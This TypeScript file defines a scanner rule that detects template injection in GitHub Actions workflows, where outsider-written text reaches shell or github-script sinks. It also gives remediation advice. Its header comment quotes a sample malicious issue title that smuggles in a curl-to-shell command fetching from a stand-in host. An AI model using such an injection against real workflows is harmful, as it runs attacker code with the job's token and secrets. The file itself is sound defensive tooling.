/**
 * Attacker-controlled text expanded by `${{ }}` into a shell script (`run:`) or a github-script
 * `script:`: the expansion happens before the shell parses the script, so a title such as
 * `a"; curl evil | sh; "` runs as code with the job's token and secrets.
 */
import { CODE_SINK_INPUTS } from '../../documents/workflow/contexts.js';
import { actionName, expressions, jobLabel, lineIn, privilegedTriggers, reachedContexts, taintedEnv } from '../../documents/workflow/model.js';
import type { Located, WorkflowProject } from '../../documents/workflow/types.js';
import type { PostureHit, PostureRule } from '../rule.js';
import { jobsOf, refs, UNTRUSTED_INPUT, jobAssetId } from './shared.js';

export const templateInjection: PostureRule<WorkflowProject> = {
  meta: {
    id: 'gha/template-injection',
    title: 'Attacker-controlled expression expanded into a script',
    severity: 'high',
    category: 'misconfiguration',
    confidence: 'high',
    description:
      'A `${{ }}` expression that reads text an outsider writes (issue or pull request titles and bodies, comments, review bodies, branch names, commit messages) is expanded into a `run:` script or an `actions/github-script` `script:`. The expansion happens before the script is parsed, so the text runs as code on the runner, with the job\'s `GITHUB_TOKEN` and secrets (the Hackerbot-claw pattern).',
    remediation:
      'Pass the value through an environment variable and quote it in the script: `env: { TITLE: ${{ github.event.issue.title }} }` then `run: echo "$TITLE"` (in github-script read `context.payload` instead of expanding it).',
    references: refs({ cwe: ['CWE-78', 'CWE-94'], owaspLlm: ['LLM05'], attack: ['T1059'], urls: [UNTRUSTED_INPUT] }),
    tags: ['github-actions', 'injection'],
    aliases: ['zizmor/template-injection', 'CKV_GHA_2', 'kics/20f14e1a-a899-4e79-9f09-b6a84cd4649b', 'kics/62ff6823-927a-427f-acf9-f1ea2932d616'],
  },
  check(project) {
    const hits: PostureHit[] = [];
    for (const { path, doc, job } of jobsOf(project)) {
      const privileged = privilegedTriggers(doc).length > 0 || doc.type === 'action';
      for (const step of job.steps) {
        const tainted = taintedEnv(doc, job, step);
        const sinks: { where: string; v: Located }[] = [];
        if (step.run) sinks.push({ where: 'run', v: step.run });
        const action = actionName(step);
        for (const input of (action && CODE_SINK_INPUTS[action]) || []) {
          const v = step.with[input];
          if (v) sinks.push({ where: `${action === 'actions/github-script' ? 'github-script' : action} ${input}`, v });
        }
        for (const { where, v } of sinks) {
          for (const e of expressions(v.value)) {
            const ctx = reachedContexts(e.text, tainted);
            if (!ctx.length) continue;
            const line = lineIn(v, e.offset);
            hits.push({
              path,
              line,
              message: `${jobLabel(job)} step ${step.index + 1} expands \`\${{ ${e.text} }}\` (${ctx.join(', ')}) into its ${where}: the text is parsed as code`,
              evidence: `\${{ ${e.text} }}`,
              severity: privileged ? 'high' : 'medium',
              key: `${job.id}/${step.index}/${where}/${e.text}`,
              assetId: jobAssetId(path, job.id),
              properties: { contexts: ctx, job: job.id },
            });
          }
        }
      }
    }
    return dedupe(hits);
  },
};

function dedupe(hits: PostureHit[]): PostureHit[] {
  const seen = new Set<string>();
  return hits.filter((h) => (seen.has(`${h.path}\u0000${h.key}`) ? false : (seen.add(`${h.path}\u0000${h.key}`), true)));
}
